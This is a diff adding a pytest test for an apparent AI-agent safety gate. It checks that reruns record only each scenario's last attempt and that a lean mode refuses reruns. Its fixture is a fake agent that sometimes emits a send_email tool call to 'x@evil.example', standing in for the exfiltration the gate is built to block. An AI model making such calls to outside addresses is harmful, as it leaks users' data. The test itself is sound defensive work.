@@ -176,3 +176,40 @@ def test_a_case_another_plugin_skips_or_breaks_is_an_error(
     broken.assert_outcomes(passed=1, errors=1)
     broken.stdout.fnmatch_lines(["gate: no verdict: pytest reported 1 failed, errored or skipped*"])
     assert not (pytester.path / "out2" / "report.json").exists()
+
+
+_FLAKY = """
+attempts = {}
+
+def flaky(replay):
+    sid = replay["scenario_id"]
+    attempts[sid] = attempts.get(sid, 0) + 1
+    steps = [{"type": "message", "role": "user", "content": t["content"]} for t in replay["turns"]]
+    if sid == "inc-1" or (sid == "inc-2" and attempts[sid] == 1):
+        steps.append({"type": "tool_call", "name": "send_email", "arguments": {"to": "x@evil.example"}, "call_id": "c1"})
+    steps.append({"type": "message", "role": "assistant", "content": "ok"})
+    return {"steps": steps}
+"""
+
+
+def test_reruns_record_each_cases_last_attempt_only(
+    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """pytest-rerunfailures (pytest run directly with the plugin): one item per case,
+    its last attempt's; with ``--gate-lean`` (one replay per case) ``--reruns`` is refused."""
+    monkeypatch.delenv("INCIDENT_LAB_SCENARIOS", raising=False)
+    lib = write(pytester.path / "scenarios", *(scenario(f"inc-{i}") for i in range(3)))
+    write_suite(lib, "gate", "name: gate\nselect: {status: [gated]}\n")
+    (pytester.path / "flaky_agents.py").write_text(_FLAKY, "utf-8")
+    pytester.syspathinsert()
+    args = ["--suite", "gate", "--target", "python:flaky_agents:flaky", "-p", "no:randomly"]
+    args += ["--reruns", "2"]  # pytest-rerunfailures (a test extra) is autoloaded
+    result = pytester.runpytest(*args, "--gate-report-dir", "out")
+    assert result.parseoutcomes() == {"passed": 2, "failed": 1, "rerun": 3}
+    report = json.loads((pytester.path / "out" / "report.json").read_text("utf-8"))
+    outcomes = [(item["id"], item["outcome"]) for item in report["items"]]
+    assert outcomes == [("inc-0", "passed"), ("inc-1", "failed"), ("inc-2", "passed")]
+    assert report["headline"] == "BLOCK: 2/3 scenarios pass"
+    lean = pytester.runpytest(*args, "--gate-lean", "--gate-report-dir", "out2")
+    assert lean.ret == pytest.ExitCode.USAGE_ERROR
+    lean.stderr.fnmatch_lines(["ERROR: --gate-lean replays each case once: --reruns 2*"])
